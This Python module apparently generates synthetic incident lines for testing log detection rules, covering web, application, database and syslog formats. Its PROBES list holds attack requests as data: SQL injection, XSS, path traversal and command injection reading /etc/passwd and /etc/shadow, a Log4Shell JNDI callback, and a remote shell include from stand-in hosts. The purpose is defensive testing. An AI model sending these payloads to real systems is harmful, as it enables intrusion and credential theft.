"""Lines that tell of trouble, of all five types, as the programs of `text_lines` would write them.

Each matches a rule that is shipped or one of patterns.tsv; that is what the share of matching lines counts."""

from vocabulary import HOSTS, NOUNS, SERVICES, USERS

ATTACKERS = [f"198.51.100.{n}" for n in range(1, 250, 3)] + [f"203.0.113.{n}" for n in range(1, 250, 3)]

PROBES = [
    "GET /.env HTTP/1.1", "GET /.git/config HTTP/1.1", "GET /phpmyadmin/index.php HTTP/1.1",
    "POST /wp-login.php HTTP/1.1", "GET /wp-content/plugins/forms/readme.txt HTTP/1.1",
    "GET /index.php?id=1%27%20union%20select%20user,pass%20from%20accounts--%20 HTTP/1.1",
    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "GET /download?file=../../../../etc/passwd HTTP/1.1",
    "GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1", "GET /cgi-bin/test?cmd=;cat%20/etc/shadow HTTP/1.1",
    "GET /actuator/heapdump HTTP/1.1", "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "GET /backup.sql HTTP/1.1", "GET /page?include=http://203.0.113.5/shell.txt HTTP/1.1",
]
SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "gobuster/3.6", "Mozilla/5.0 zgrab/0.x"]


def access(c, v):
    request = v.pick(PROBES) if v.below(3) else f"GET {v.often(v.paths)} HTTP/1.1"
    agent = v.often(v.agents)
    status = v.pick(("404", "403"))
    if request not in PROBES:
        status = v.pick(("500", "502", "503", "504")) if v.below(2) else status
        if not status.startswith("5"):
            agent = v.pick(SCANNERS)
    return f'{v.pick(ATTACKERS)} - - [{c.access}] "{request}" {status} {v.below(900)} "-" "{agent}" rt=0.{v.below(1000):03d}\n'


def web_error(c, v):
    request = f'client: {v.pick(ATTACKERS)}, server: shop.example.com, request: "GET {v.often(v.paths)} HTTP/1.1"'
    return f"{c.slashed} [error] {1200 + v.below(8)}#{1200 + v.below(8)}: *{v.below(900000)} " + v.pick((
        f"upstream timed out (110: Connection timed out) while reading response header from upstream, {request}\n",
        f"connect() failed (111: Connection refused) while connecting to upstream, {request}\n",
        f"upstream prematurely closed connection while reading response header from upstream, {request}\n",
        f"no live upstreams while connecting to upstream, {request}\n",
        f'limiting requests, excess: {v.below(90)}.{v.below(1000):03d} by zone "login", {request}\n',
    ))


def java(c, v):
    package, name = v.often(v.classes)
    head = (
        f"{c.spaced}.{c.milli:03d} ERROR {8000 + v.below(6)} --- [nio-8080-exec-{1 + v.below(16)}] "
        f"c.e.shop.{package}.{name} : "
    )
    causes = (
        f"HikariPool-1 - Connection is not available, request timed out after {30000 + v.below(900)}ms.",
        "java.lang.OutOfMemoryError: Java heap space",
        "org.postgresql.util.PSQLException: ERROR: deadlock detected",
        "java.sql.SQLTransientConnectionException: the pool is shut down",
        f"connection refused: {v.pick(HOSTS)}.internal:5432",
        "javax.net.ssl.SSLHandshakeException: certificate has expired",
        f"SQLSTATE[23505]: duplicate key value violates unique constraint on {v.pick(NOUNS)}s",
    )
    lines = [head + v.pick(causes)]
    for _ in range(5 + v.below(12)):
        package, name = v.often(v.classes)
        lines.append(f"\tat com.example.shop.{package}.{name}.{v.pick(NOUNS)}({name}.java:{10 + v.below(400)})")
    return "\n".join(lines) + "\n"


def app(c, v):
    head = f"{c.spaced},{c.milli:03d} ERROR {v.pick(SERVICES)}.{v.pick(NOUNS)}: "
    return head + v.pick((
        f"gateway timeout after {30 + v.below(9)} s\n",
        f"getaddrinfo EAI_AGAIN {v.pick(HOSTS)}.internal\n",
        "django.db.utils.OperationalError: server closed the connection unexpectedly\n",
        "[Errno 28] No space left on device\n",
        "OOM command not allowed when used memory > 'maxmemory'.\n",
        f"read ECONNRESET {v.pick(ATTACKERS)}:443\n",
        f"Failed to load resource /assets/{v.pick(NOUNS)}.js: too many open files\n",
    ))


def syslog(c, v):
    head = f"{c.iso}.{c.micro:06d}+00:00 {v.pick(HOSTS)} "
    pid = 500 + v.below(30000)
    attacker = v.pick(ATTACKERS)
    port = 1024 + v.below(60000)
    return head + v.pick((
        f"sshd[{pid}]: Failed password for invalid user {v.pick(('admin', 'oracle', 'test', 'ubuntu'))} from {attacker} port {port} ssh2\n",
        f"sshd[{pid}]: Failed password for root from {attacker} port {port} ssh2\n",
        f"sshd[{pid}]: Invalid user {v.pick(('admin', 'oracle', 'test', 'ubuntu'))} from {attacker} port {port}\n",
        f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={attacker}  user=root\n",
        f"sshd[{pid}]: error: maximum authentication attempts exceeded for root from {attacker} port {port} ssh2 [preauth]\n",
        f"sudo[{pid}]:   {v.pick(USERS)} : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/bin/bash\n",
        f"kernel: [{v.below(900000)}.{v.below(10**6):06d}] Out of memory: Killed process {pid} ({v.pick(SERVICES)}) total-vm:{v.below(10**7)}kB\n",
        f"kernel: [{v.below(900000)}.{v.below(10**6):06d}] INFO: task jbd2/sda1-8:{pid} blocked for more than 120 seconds.\n",
        f"kernel: [{v.below(900000)}.{v.below(10**6):06d}] {v.pick(SERVICES)}[{pid}]: segfault at 0 ip {v.hex(12)} sp {v.hex(12)} error 4\n",
        f"systemd[1]: {v.pick(SERVICES)}.service: Failed with result 'exit-code'.\n",
        f"kernel: [{v.below(900000)}.{v.below(10**6):06d}] [UFW BLOCK] IN=eth0 OUT= SRC={attacker} DST=192.0.2.10 LEN=40 PROTO=TCP SPT={port} DPT=22\n",
    ))


def postgres(c, v):
    head = f"{c.spaced}.{c.milli:03d} UTC [{2000 + v.below(400)}] {v.pick(USERS)}@shop "
    return head + v.pick((
        f"FATAL:  password authentication failed for user \"{v.pick(USERS)}\"\n",
        "ERROR:  deadlock detected\n",
        "ERROR:  canceling statement due to statement timeout\n",
        "FATAL:  sorry, too many clients already\n",
        f"ERROR:  duplicate key value violates unique constraint \"{v.pick(NOUNS)}s_pkey\"\n",
        f"LOG:  duration: {3000 + v.below(60000)}.{v.below(1000):03d} ms  statement: SELECT count(*) FROM {v.pick(NOUNS)}s\n",
        f"LOG:  process {v.below(30000)} still waiting for ShareLock on transaction {v.below(10**6)} after 1000.{v.below(1000):03d} ms\n",
    ))


def mysql(c, v):
    head = f"{c.iso}.{c.micro:06d}Z {v.below(900)} "
    return head + v.pick((
        f"[Note] [MY-010926] [Server] Access denied for user '{v.pick(USERS)}'@'{v.pick(ATTACKERS)}' (using password: YES)\n",
        "[ERROR] [MY-012873] [InnoDB] Lock wait timeout exceeded; try restarting transaction\n",
        "[Warning] [MY-010055] [Server] Too many connections\n",
        f"[ERROR] [MY-010866] [Server] Table './shop/{v.pick(NOUNS)}s' is marked as crashed and should be repaired\n",
    ))


# In whose place an incident is written.
INSTEAD = {
    "nginx_access": access, "apache_access": access, "nginx_error": web_error, "apache_error": web_error,
    "spring": java, "trace": java, "python_app": app, "go_app": app, "syslog": syslog, "postgres": postgres,
    "mysql": mysql,
}
